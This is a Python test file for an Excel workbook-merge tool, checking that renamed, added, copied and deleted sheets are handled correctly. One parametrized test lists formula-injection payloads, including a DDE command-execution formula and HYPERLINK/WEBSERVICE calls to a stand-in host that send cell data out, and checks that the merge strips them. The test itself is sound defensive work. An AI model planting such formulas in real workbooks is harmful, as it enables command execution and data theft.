"""Sheets that people added, renamed, copied or deleted, and the formulas that they typed."""

from __future__ import annotations

from base64 import b64decode
from typing import TYPE_CHECKING

import pytest
from openpyxl.comments import Comment
from openpyxl.styles import Font, PatternFill

from planforge.formats.excel.layout import HOME, LISTS
from tests.gate.hands import lost, pictures_of, told, with_picture, with_results
from tests.gate.plans import action, generated, other_actions

if TYPE_CHECKING:
    from openpyxl import Workbook as Book

    from tests.formats.excel.merge.conftest import Case

DOT = b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYPj/HwADAgH/eL9GtQAAAABJRU5ErkJggg==")


def test_a_renamed_sheet_keeps_its_new_name(case: Case) -> None:
    def rename(book: Book) -> None:
        book["Actions"].title = "Mes actions"
        book["Équipes"].sheet_state = "hidden"
        for name in (HOME, "Mes actions"):
            for line in book[name].iter_rows():
                for cell in line:
                    if isinstance(cell.value, str) and cell.value.startswith("="):
                        cell.value = cell.value.replace("'Actions'", "'Mes actions'")

    case.edit(rename)
    merged = case.merge(generated(other_actions()))
    book = case.book()
    assert book.sheetnames == [HOME, "Mes actions", "Équipes", LISTS]
    assert book["Équipes"].sheet_state == "hidden"
    assert any("'Mes actions'!" in str(cell.value) for cell in book[HOME]["D"])
    assert ("kept", "feuille « Actions », nom de la feuille", "Mes actions") in told(merged)


def test_an_added_sheet_is_carried(case: Case) -> None:
    def add(book: Book) -> None:
        page = book.create_sheet("Mes notes")
        page["A1"], page["A1"].font = "Réunion", Font(bold=True, size=16)
        page["B2"], page["B2"].number_format = 0.25, "0%"
        page["C3"], page["C3"].fill = True, PatternFill("solid", fgColor="FFFFFF00")
        page.merge_cells("A5:C5")
        page["A5"] = "fusionné"
        page["D1"].comment = Comment("note", "x")
        page["D2"], page["D2"].hyperlink = "site", "https://exemple.invalid/"
        page.column_dimensions["A"].width = 33

    case.edit(add)
    case.theirs = with_picture(case.theirs, 5, (2, 5), DOT)
    merged = case.merge(generated(other_actions()))
    page = case.book()["Mes notes"]
    assert (page["A1"].value, page["A1"].font.b, page["A1"].font.sz) == ("Réunion", True, 16)
    assert (page["B2"].value, page["B2"].number_format) == (0.25, "0%")
    assert (page["C3"].value, page["C3"].fill.fgColor.rgb) == (True, "FFFFFF00")
    assert [str(area) for area in page.merged_cells.ranges] == ["A5:C5"]
    assert page["D1"].comment.text == "note"
    assert page["D2"].hyperlink.target == "https://exemple.invalid/"
    assert page.column_dimensions["A"].width == 33
    assert pictures_of(case.theirs) == [("xl/drawings/drawing2.xml", 2, 5)]
    assert ("kept", "feuille « Mes notes », feuille ajoutée", "4 lignes") in told(merged)
    before = case.theirs
    case.merge()
    assert case.theirs == before


def test_formulas_of_added_sheets_follow_the_rows(case: Case) -> None:
    case.edit(lambda book: book.create_sheet("Calculs").__setitem__("A1", "='Actions'!F9*2"))
    case.theirs = with_results(case.theirs)
    case.merge(generated([action(0), action(2), action(1)]))
    assert case.book()["Calculs"]["A1"].value == "='Actions'!F8*2"


HARMFUL = (
    '=WEBSERVICE("http://exemple.invalid/")',
    '=HYPERLINK("file:///c:/x","x")',
    '=HYPERLINK("http://exemple.invalid/"&F7,"x")',
    "=[1]Feuil1!A1",
    "=cmd|'/c calc'!A0",
    '=INDIRECT("A1")',
    "='Feuille partie'!A1",
)


@pytest.mark.parametrize("formula", HARMFUL)
def test_a_formula_that_leaves_the_file_leaves_its_value(case: Case, formula: str) -> None:
    case.edit(lambda book: book.create_sheet("Calculs").__setitem__("A1", formula))
    case.theirs = with_results(case.theirs)
    merged = case.merge(generated(other_actions()))
    assert case.book()["Calculs"]["A1"].value == 8
    assert lost(merged) == {formula}


def test_a_copy_of_a_sheet_with_something_in_it_is_an_added_sheet(case: Case) -> None:
    def copy(book: Book) -> None:
        page = book.copy_worksheet(book["Actions"])
        page.title = "Essai"
        page["G7"] = "dans la copie"

    case.edit(copy)
    case.merge(generated(other_actions()))
    assert case.book()["Essai"]["G7"].value == "dans la copie"


def test_a_sheet_that_a_person_deleted_comes_back(case: Case) -> None:
    case.edit(lambda book: book.remove(book["Équipes"]))
    merged = case.merge(generated(other_actions()))
    assert "Équipes" in case.book().sheetnames
    assert lost(merged) <= {"feuille supprimée, revenue"}
    assert bool(lost(merged)) == case.kept_base
